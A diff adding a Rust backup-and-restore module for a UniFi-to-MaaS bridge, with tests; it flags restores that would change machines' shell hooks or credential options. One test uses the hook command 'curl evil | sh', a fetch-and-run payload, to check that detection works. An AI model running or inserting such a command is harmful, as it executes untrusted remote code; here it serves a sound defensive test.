@@ -0,0 +1,182 @@
+use std::{collections::BTreeMap, path::Path};
+
+use anyhow::anyhow;
+use serde::{Deserialize, Serialize};
+use toml_edit::Document;
+
+use crate::{
+    config::{Config, Device, Machine},
+    store::StoredState,
+};
+
+/// The device and machine mappings of a bridge, and optionally its stored
+/// state, so a failed host can be rebuilt quickly.
+#[derive(Serialize, Deserialize, Debug)]
+pub struct Backup {
+    pub devices: Vec<Device>,
+    #[serde(default)]
+    pub machines: Vec<Machine>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub state: Option<StoredState>,
+}
+
+#[derive(Serialize)]
+struct Mappings<'a> {
+    devices: &'a [Device],
+    machines: &'a [Machine],
+}
+
+impl Backup {
+    pub fn new(config: &Config, state: Option<StoredState>) -> Self {
+        Self {
+            devices: config.devices.clone(),
+            machines: config.machines.clone(),
+            state,
+        }
+    }
+
+    /// Validates the mappings the same way the config file is validated at
+    /// startup.
+    pub fn validate(&self, url: &str) -> anyhow::Result<()> {
+        Config {
+            url: url.to_owned(),
+            devices: self.devices.clone(),
+            machines: self.machines.clone(),
+            ..Default::default()
+        }
+        .validate()
+    }
+
+    /// The machines whose hooks or driver options would change. Hooks run shell
+    /// commands and options hold credentials, so a restore must not bring in
+    /// new ones.
+    pub fn privileged_changes(&self, config: &Config) -> Vec<String> {
+        let current = machines(&config.devices, &config.machines);
+        machines(&self.devices, &self.machines)
+            .into_iter()
+            .filter(|(maas_id, machine)| {
+                let (hooks, options) = current.get(maas_id).map_or((None, None), |current| {
+                    (current.hooks.as_ref(), Some(&current.options))
+                });
+                machine.hooks.as_ref() != hooks
+                    || options.map_or(!machine.options.is_empty(), |options| {
+                        &machine.options != options
+                    })
+            })
+            .map(|(maas_id, _)| maas_id.to_owned())
+            .collect()
+    }
+
+    /// Replaces the devices and machines of a TOML config, keeping every other
+    /// setting and any comments outside of the mappings.
+    pub fn apply_to(&self, config_toml: &str) -> anyhow::Result<String> {
+        let mut document = config_toml.parse::<Document>()?;
+        let mappings = toml::to_string(&Mappings {
+            devices: &self.devices,
+            machines: &self.machines,
+        })?
+        .parse::<Document>()?;
+        for key in ["devices", "machines"] {
+            let item = mappings
+                .get(key)
+                .ok_or_else(|| anyhow!("failed to render `{key}`"))?;
+            document[key] = item.clone();
+        }
+        // The restored devices already hold the machines of any port ranges.
+        document.remove("port_ranges");
+        Ok(document.to_string())
+    }
+
+    /// Writes the mappings into the config file. The file is replaced in one
+    /// rename so a failed write never leaves a half written config behind.
+    pub async fn write_config_file(&self, config_file: &Path) -> anyhow::Result<()> {
+        let current = tokio::fs::read_to_string(config_file).await?;
+        let updated = self.apply_to(&current)?;
+        let temporary = config_file.with_extension("toml.restore");
+        tokio::fs::write(&temporary, updated).await?;
+        tokio::fs::rename(&temporary, config_file).await?;
+        Ok(())
+    }
+}
+
+/// Every machine by its MaaS system ID, sorted so reports are stable.
+fn machines<'a>(devices: &'a [Device], machines: &'a [Machine]) -> BTreeMap<&'a str, &'a Machine> {
+    devices
+        .iter()
+        .flat_map(|device| &device.machines)
+        .chain(machines)
+        .map(|machine| (machine.maas_id.as_str(), machine))
+        .collect()
+}
+
+#[cfg(test)]
+mod test {
+    use super::Backup;
+    use crate::config::{Config, Device, HooksConfig, Machine};
+    use mac_address::MacAddress;
+
+    const CONFIG: &str = r#"
+# The controller
+url = "https://unifi"
+
+[[devices]]
+mac = "00:00:00:00:00:00"
+
+[[devices.machines]]
+maas_id = "old"
+port_id = 1
+"#;
+
+    fn backup(port_id: usize) -> Backup {
+        Backup {
+            devices: vec![Device {
+                mac: MacAddress::from([0, 0, 0, 0, 0, 1]),
+                machines: vec![Machine {
+                    maas_id: "new".to_owned(),
+                    port_id,
+                    ..Default::default()
+                }],
+            }],
+            machines: Vec::new(),
+            state: None,
+        }
+    }
+
+    #[test]
+    fn should_replace_mappings_and_keep_other_settings() {
+        let updated = backup(2).apply_to(CONFIG).unwrap();
+        assert!(updated.contains("# The controller"));
+        let config = toml::from_str::<Config>(&updated).unwrap();
+        assert_eq!(config.url, "https://unifi");
+        assert_eq!(config.devices.len(), 1);
+        assert_eq!(config.devices[0].machines[0].maas_id, "new");
+        assert_eq!(config.devices[0].machines[0].port_id, 2);
+    }
+
+    #[test]
+    fn should_list_machines_whose_hooks_or_options_change() {
+        let config = Config {
+            devices: backup(1).devices,
+            ..Default::default()
+        };
+        assert!(backup(2).privileged_changes(&config).is_empty());
+        let mut hooked = backup(2);
+        hooked.devices[0].machines[0].hooks = Some(HooksConfig {
+            post_power_on: Some("curl evil | sh".to_owned()),
+            ..Default::default()
+        });
+        assert_eq!(hooked.privileged_changes(&config), ["new"]);
+        let mut added = backup(2);
+        added.machines.push(Machine {
+            maas_id: "added".to_owned(),
+            options: toml::toml! { password = "secret" },
+            ..Default::default()
+        });
+        assert_eq!(added.privileged_changes(&config), ["added"]);
+    }
+
+    #[test]
+    fn should_reject_invalid_mappings() {
+        assert!(backup(0).validate("https://unifi").is_err());
+    }
+}